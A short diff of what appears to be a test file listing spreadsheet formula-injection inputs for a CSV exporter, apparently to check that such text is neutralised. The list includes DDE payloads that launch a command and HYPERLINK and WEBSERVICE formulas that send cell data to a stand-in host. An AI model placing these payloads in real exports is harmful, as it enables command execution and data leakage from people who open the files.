@@ -17,7 +17,8 @@ from pipeline.publish import csv_file
 
 PAYLOADS = [
     "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠A1", "'=1+1", "''=1+1",
-    "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example/?x="&A1,"Тут")', "=1+1;2", '=1+1"";=2', "-2+3+cmd|' /C calc'!D2",
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example/?x="&A1,"Тут")', "=1+1;2", '=1+1"";=2',
+    "-2+3+cmd|' /C calc'!D2",
     "@", "-", "=", "+", "=WEBSERVICE(\"http://a.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1\n=2",
 ]  # fmt: skip
 """Texts that spreadsheets take for formulas, and what is made of them."""
